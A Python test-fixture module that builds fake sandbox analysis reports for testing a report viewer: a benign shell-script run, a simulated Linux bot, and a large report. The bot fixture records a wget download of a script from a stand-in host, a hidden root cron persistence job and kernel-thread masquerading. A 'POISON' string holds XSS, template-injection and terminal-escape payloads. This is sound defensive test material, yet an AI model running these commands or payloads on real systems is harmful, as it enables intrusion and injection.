"""Reports for tests of what people see: an ordinary one, a hostile one, a large one. All are plain JSON values."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

BEGIN = 1_780_000_000.25

_NAMES = {
    "execve": ["pathname", "argv", "envp"],
    "openat": ["dirfd", "pathname", "flags", "mode"],
    "read": ["fd", "buf", "count"],
    "write": ["fd", "buf", "count"],
    "close": ["fd"],
    "brk": ["addr"],
    "mmap": ["addr", "length", "prot", "flags", "fd", "offset"],
    "clone": ["flags", "stack", "parent_tid", "child_tid", "tls"],
    "wait4": ["pid", "wstatus", "options", "rusage"],
    "socket": ["domain", "type", "protocol"],
    "connect": ["sockfd", "addr", "addrlen"],
    "sendto": ["sockfd", "buf", "len", "flags", "dest_addr", "addrlen"],
    "poll": ["fds", "nfds", "timeout"],
    "unlink": ["pathname"],
    "chmod": ["pathname", "mode"],
    "exit_group": ["status"],
}
_KINDS = {
    "process": "execve clone wait4 exit_group",
    "memory": "brk mmap",
    "network": "socket connect sendto",
    "file": "openat read write close unlink chmod poll",
}


class Maker:
    """Makes processes with calls whose sequence numbers and times grow."""

    def __init__(self) -> None:
        self.seq = 0
        self.processes: list[dict[str, Any]] = []

    def call(self, process: dict[str, Any], api: str, *values: Any, ret: str = "0", status: str = "") -> None:
        self.seq += 1
        kind = next((name for name, apis in _KINDS.items() if api in apis.split()), "misc")
        process["calls"].append(
            {
                "type": "apicall",
                "seq": self.seq,
                "time": BEGIN + self.seq * 0.00041,
                "duration": 0.000012,
                "process_name": process["process_name"],
                "pid": process["pid"],
                "tid": process["pid"],
                "instruction_pointer": "7f1234567890",
                "api": api,
                "category": kind,
                "arguments": {f"p{number}": value for number, value in enumerate(values)},
                "argument_names": _NAMES.get(api, [])[: len(values)],
                "return_value": ret,
                "status": status,
                "raw": f"{api}()\n",
            }
        )
        process["calls_total"] = len(process["calls"])

    def process(self, command: list[str], parent: dict[str, Any] | None, exe: str = "") -> dict[str, Any]:
        key = len(self.processes) + 1
        self.seq += 1
        time = BEGIN + self.seq * 0.00041
        made = {
            "type": "process",
            "pid": 610 + key,
            "ppid": parent["pid"] if parent else 1,
            "process_name": command[0] if command[0][0] == "[" else command[0].rpartition("/")[2],
            "command_line": " ".join(command),
            "first_seen": time,
            "calls": [],
            "key": key,
            "parent": parent["key"] if parent else 0,
            "exe": exe or command[0],
            "tids": [610 + key],
            "threads": 1,
            "images": [{"time": time, "path": exe or command[0], "command_line": " ".join(command), "cwd": "/tmp"}],
            "names": [command[0].rpartition("/")[2]],
            "ended": None,
            "exit_code": None,
            "exit_signal": None,
            "calls_total": 0,
        }
        self.processes.append(made)
        self.call(made, "execve", exe or command[0], command, ["PATH=/usr/bin:/bin", "HOME=/root"], ret="0")
        self.call(made, "brk", "NULL", ret="0x55d0c8a3f000")
        self.call(made, "openat", "AT_FDCWD", "/etc/ld.so.preload", "O_RDONLY|O_CLOEXEC", ret="-2", status="ENOENT")
        self.call(made, "openat", "AT_FDCWD", "/etc/ld.so.cache", "O_RDONLY|O_CLOEXEC", ret="3")
        self.call(made, "mmap", "NULL", "21698", "PROT_READ", "MAP_PRIVATE", "3", "0x0", ret="0x7f3a51c00000")
        self.call(made, "close", "3")
        return made

    def end(self, process: dict[str, Any], code: int | None = 0, killed: int | None = None) -> None:
        self.call(process, "exit_group", str(code or 0), ret="")
        process["ended"] = BEGIN + self.seq * 0.00041 + 0.0002
        process["exit_code"], process["exit_signal"] = code, killed

    def tree(self) -> list[dict[str, Any]]:
        """Nest the processes by their parents."""
        shown = ("pid", "ppid", "process_name", "command_line", "first_seen", "key")
        nodes = {
            process["key"]: {name: process[name] for name in shown} | {"track": True, "children": []}
            for process in self.processes
        }
        roots: list[dict[str, Any]] = []
        for process in self.processes:
            above = nodes.get(process["parent"])
            (above["children"] if above else roots).append(nodes[process["key"]])
        return roots


def helloworld() -> dict[str, Any]:
    """Give the report of a shell script that prints, runs cat, and runs ping without a network."""
    maker = Maker()
    bash = maker.process(["/bin/bash", "/tmp/helloworld.sh"], None)
    maker.call(bash, "write", "1", "hello world!\n", "13", ret="13")
    maker.call(bash, "clone", "CLONE_CHILD_SETTID|SIGCHLD", "NULL", "NULL", "0x7f3a51bd9a10", "0", ret="612")
    cat = maker.process(["cat", "/etc/passwd"], bash, "/usr/bin/cat")
    maker.call(cat, "openat", "AT_FDCWD", "/etc/passwd", "O_RDONLY", ret="3")
    maker.call(cat, "read", "3", "root:x:0:0:root:/root:/bin/bash\n", "131072", ret="839")
    maker.call(cat, "write", "1", "root:x:0:0:root:/root:/bin/bash\n", "839", ret="839")
    maker.end(cat)
    maker.call(bash, "wait4", "-1", "[0]", "0", "NULL", ret="612")
    maker.call(bash, "clone", "CLONE_CHILD_SETTID|SIGCHLD", "NULL", "NULL", "0x7f3a51bd9a10", "0", ret="613")
    ping = maker.process(["ping", "-c", "4", "www.360.com"], bash, "/usr/bin/ping")
    maker.call(ping, "socket", "AF_INET", "SOCK_DGRAM|SOCK_NONBLOCK", "IPPROTO_IP", ret="5")
    server = {"sa_family": "AF_INET", "sin_port": "53", "sin_addr": "10.0.2.3"}
    maker.call(ping, "connect", "5", server, "16", ret="-101", status="ENETUNREACH")
    maker.end(ping, 2)
    maker.end(bash, 2)
    return assemble(
        maker,
        name="helloworld.sh",
        summary={
            "command_line": ["/bin/bash /tmp/helloworld.sh", "cat /etc/passwd", "ping -c 4 www.360.com"],
            "file_read": ["/tmp/helloworld.sh", "/etc/passwd"],
            "connects_ip": ["10.0.2.3"],
            "resolves_host": ["www.360.com"],
        },
    )


def busy() -> dict[str, Any]:
    """Give a report in which everything has happened: signatures, a crash, a daemon, changed files, loss."""
    maker = Maker()
    shell = maker.process(["/bin/sh", "-c", "/tmp/.x/update.bin --install"], None, "/usr/bin/dash")
    bot = maker.process(["/tmp/.x/update.bin", "--install"], shell)
    bot["images"].append(
        {"time": bot["first_seen"] + 0.012, "path": "/usr/bin/kworkerd", "command_line": "[kworker/0:2]", "cwd": "/"}
    )
    bot["names"] = ["update.bin", "kworker/0:2"]
    for number in range(40):
        maker.call(bot, "openat", "AT_FDCWD", f"/proc/{number + 1}/exe", "O_RDONLY", ret="-2", status="ENOENT")
    maker.call(bot, "openat", "AT_FDCWD", "/etc/cron.d/.sysupdate", "O_WRONLY|O_CREAT|O_TRUNC", "0o644", ret="4")
    maker.call(bot, "write", "4", "* * * * * root /usr/bin/kworkerd\n", "33", ret="33")
    maker.call(bot, "chmod", "/usr/bin/kworkerd", "0o755")
    wget = maker.process(
        ["wget", "-q", "-O", "/tmp/.x/m", "http://203.0.113.7:8080/m.sh?id=4f2a&os=linux"], bot, "/usr/bin/wget"
    )
    maker.call(wget, "socket", "AF_INET", "SOCK_STREAM", "IPPROTO_TCP", ret="3")
    peer = {"sa_family": "AF_INET", "sin_port": "8080", "sin_addr": "203.0.113.7"}
    maker.call(wget, "connect", "3", peer, "16", ret="-101", status="ENETUNREACH")
    maker.end(wget, 4)
    daemon = maker.process(["[kworker/0:2]"], bot, "/usr/bin/kworkerd")
    for number in range(60):
        maker.call(daemon, "socket", "AF_INET", "SOCK_DGRAM", "IPPROTO_UDP", ret="6")
        maker.call(
            daemon, "sendto", "6", "\x12\x34\x01\x00\x00\x01", "31", "0", peer, "16", ret="-101", status="ENETUNREACH"
        )
        maker.call(daemon, "poll", [{"fd": "6", "events": "POLLIN"}], "1", "1000", ret="0")
        maker.seq += 20 * (number % 4)
    crash = maker.process(["/tmp/.x/exploit", "CVE-2021-4034"], bot)
    maker.call(crash, "unlink", "/tmp/.x/update.bin")
    maker.end(crash, None, 11)
    maker.end(bot)
    maker.end(shell)
    cron = next(number for number, call in enumerate(bot["calls"]) if ".sysupdate" in str(call["arguments"]))
    report = assemble(
        maker,
        name="update.bin",
        summary={
            "file_created": ["/etc/cron.d/.sysupdate", "/usr/bin/kworkerd", "/tmp/.x/m"],
            "file_written": ["/etc/cron.d/.sysupdate", "/usr/bin/kworkerd"],
            "file_deleted": ["/tmp/.x/update.bin"],
            "file_moved": [["/tmp/.x/m", "/usr/bin/kworkerd"]],
            "file_read": ["/etc/passwd", "/proc/cpuinfo", "/proc/net/tcp"],
            "file_failed": [f"/proc/{number}/exe" for number in range(1, 120)],
            "command_line": [process["command_line"] for process in maker.processes],
            "connects_ip": ["203.0.113.7"],
            "resolves_host": ["updates.example.net"],
            "dll_loaded": ["/lib/x86_64-linux-gnu/libc.so.6"],
            "persistence": [{"path": "/etc/cron.d/.sysupdate", "mechanism": "cron", "trigger": "timer"}],
            "permissions": [{"path": "/usr/bin/kworkerd", "mode": "0755", "means": "executable"}],
            "claimed_names": [{"program": "/usr/bin/kworkerd", "claims": "[kworker/0:2]"}],
            "connections": [
                {
                    "endpoint": "203.0.113.7:8080",
                    "protocol": "tcp",
                    "direction": "out",
                    "attempts": 1,
                    "sent": 0,
                    "received": 0,
                    "failed": 1,
                },
            ],
            "timing": [{"what": "sleep", "by": "nanosleep", "calls": 2, "asked_s": 600.0, "took_s": 600.1}],
        },
    )
    report["signatures"] = [
        signature(
            "persistence_cron",
            "Writes a job of cron, which starts it again",
            4,
            {"T1053.003": "Cron"},
            bot,
            [cron, cron + 1],
        ),
        signature(
            "deletes_itself", "Deletes the file that it was started from", 3, {"T1070.004": "File Deletion"}, crash, [6]
        ),
        signature(
            "hides_as_kernel_thread",
            "Bears the name of a kernel thread",
            4,
            {"T1036.004": "Masquerade Task or Service"},
            daemon,
            [0],
        ),
        signature(
            "lists_processes",
            "Looks at the programs of all processes",
            1,
            {"T1057": "Process Discovery"},
            bot,
            list(range(6, 40)),
        ),
    ]
    report["malkoha"]["verdict"] = {
        "score": 8.7,
        "level": "malicious",
        "why": ["persistence_cron", "hides_as_kernel_thread", "deletes_itself", "lists_processes"],
    }
    report["info"]["score"] = 8.7
    report["malkoha"]["trace"] |= {"lost": 12, "ended": "timeout"}
    report["malkoha"]["omitted"] = {"calls": 1300, "launcher_calls": 41}
    return report


def signature(
    name: str, description: str, severity: int, ttp: dict[str, str], process: dict[str, Any], cids: list[int]
) -> dict[str, Any]:
    marks = [
        {"type": "call", "pid": process["pid"], "key": process["key"], "cid": cid, "call": process["calls"][cid]}
        for cid in cids
    ]
    return {
        "name": name,
        "description": description,
        "severity": severity,
        "ttp": ttp,
        "families": [],
        "references": [],
        "marks": marks,
        "markcount": len(marks),
    }


def assemble(maker: Maker, name: str, summary: dict[str, list[Any]]) -> dict[str, Any]:
    """Put processes and a summary into a whole report."""
    calls = sum(len(process["calls"]) for process in maker.processes)
    statistics: dict[str, dict[str, int]] = {}
    for process in maker.processes:
        counts = statistics.setdefault(str(process["pid"]), {})
        for call in process["calls"]:
            counts[call["api"]] = counts.get(call["api"], 0) + 1
    generic = [
        {
            "pid": process["pid"],
            "ppid": process["ppid"],
            "process_name": process["process_name"],
            "process_path": process["exe"],
            "first_seen": process["first_seen"],
            "summary": {"file_read": ["/etc/passwd"]} if process["process_name"] == "cat" else {},
        }
        for process in maker.processes
    ]
    return {
        "info": {
            "version": "0.1.0",
            "added": BEGIN - 3,
            "started": BEGIN - 2,
            "ended": BEGIN + 6,
            "duration": 8.0,
            "id": 1,
            "category": "file",
            "machine": {"name": "m1", "label": "m1", "started_on": "", "shutdown_on": ""},
            "package": "script",
            "platform": "linux",
            "options": "",
            "route": "none",
            "score": 0.0,
        },
        "metadata": {},
        "target": {
            "category": "file",
            "file": {
                "name": name,
                "path": "sample",
                "size": 71_302,
                "crc32": "6850D96C",
                "md5": "7987cf330ff5bb94015dfbb9eae5a99f",
                "sha1": "d3abebe287671fe1e09e79cdab88533aa68874e4",
                "sha256": "cb30d69b24245bf2ecdc9e7f53bbad19159999970b6d82c0c00c7d32d9e37aa4",
                "sha512": "3f" * 64,
                "ssdeep": "3072:DblyvE2VecD2crUvYpr0meZJfEdjdkIKacl:DyEaeS10VhEdjyIdcl",
                "type": "Bourne-Again shell script, ASCII text executable",
                "yara": [],
                "urls": ["http://203.0.113.7:8080/m.sh"],
            },
        },
        "static": {},
        "strings": ["#!/bin/bash", 'echo "hello world!"', "cat /etc/passwd", "ping -c 4 www.360.com"],
        "behavior": {
            "generic": generic,
            "processtree": maker.tree(),
            "summary": summary,
            "apistats": statistics,
            "processes": maker.processes,
        },
        "network": {"hosts": [], "domains": [], "tcp": []},
        "dropped": [],
        "signatures": [],
        "debug": {"log": ["2026-05-28 20:26:40 INFO 1 malkoha.analysis: machine restored"], "errors": []},
        "malkoha": {
            "version": "0.1.0",
            "trace": {
                "engine": "tracepoint",
                "events": calls + 9,
                "lost": 0,
                "bytes": 93_112,
                "ended": "all processes gone",
            },
            "timings": {
                "queued_s": 0.02,
                "restore_s": 0.71,
                "deliver_s": 0.12,
                "run_s": 1.31,
                "process_s": 0.62,
                "report_s": 0.2,
                "total_s": 3.1,
                "first_event_s": 1.02,
            },
            "machine": {"image": "default", "accelerator": "tcg", "architecture": "x86-64"},
            "verdict": {"score": 0.0, "level": "clean", "why": []},
            "command": ["/bin/bash", "/tmp/helloworld.sh"],
            "exit_status": 512,
            "output": {
                "stdout": "hello world!\nroot:x:0:0:root:/root:/bin/bash\n"
                "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
                "stderr": "ping: www.360.com: Temporary failure in name resolution\n",
                "stdout_bytes": 93,
                "stderr_bytes": 56,
            },
            "processes_total": len(maker.processes),
            "calls_total": calls,
            "omitted": {},
            "errors": [],
        },
    }


POISON = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\"'`&amp;</style></script>"
    "<!--{{7*7}}${7*7} [bold]x[/bold] \u202egpj.exe\u2066\u200b\ufeff "
    "\x00\x1b[31m\x1b]0;owned\x07\x9b31m\r\n\t\x7f\ud800 "
)
"""What must be shown as it is: tags, quotes, templates, direction marks, control characters, a lone surrogate."""


def poisoned(report: dict[str, Any], poison: str = POISON) -> dict[str, Any]:
    """Put the poison into every text of a report, names of keys that are data included; structure stays."""
    kept = {"level", "type", "category", "by"}

    def walk(value: Any, key: str = "") -> Any:
        if isinstance(value, str):
            return poison + value if value and key not in kept else value
        if isinstance(value, list):
            return [walk(item, key) for item in value]
        if isinstance(value, dict):
            free = key in ("ttp", "options", "hardening", "file_header")
            return {(poison + name if free else name): walk(item, name) for name, item in value.items()}
        return value

    result: dict[str, Any] = walk(report)
    return result


def large(
    calls: int, processes: int = 5, word: Callable[[int], str] = lambda number: f"/tmp/file-{number}"
) -> dict[str, Any]:
    """Give a report with many calls."""
    maker = Maker()
    root = maker.process(["/bin/flood", "-a"], None)
    rest = [maker.process([f"/bin/worker{number}"], root) for number in range(processes - 1)]
    for number in range(calls):
        process = ([root, *rest])[number % processes]
        if number % 7 == 0:
            maker.call(process, "openat", "AT_FDCWD", word(number), "O_RDONLY|O_CLOEXEC", ret="-2", status="ENOENT")
        else:
            maker.call(process, "write", "1", word(number) * 8, "4096", ret="4096")
    for process in rest:
        maker.end(process)
    return assemble(maker, name="flood", summary={"file_failed": [word(number) for number in range(2000)]})
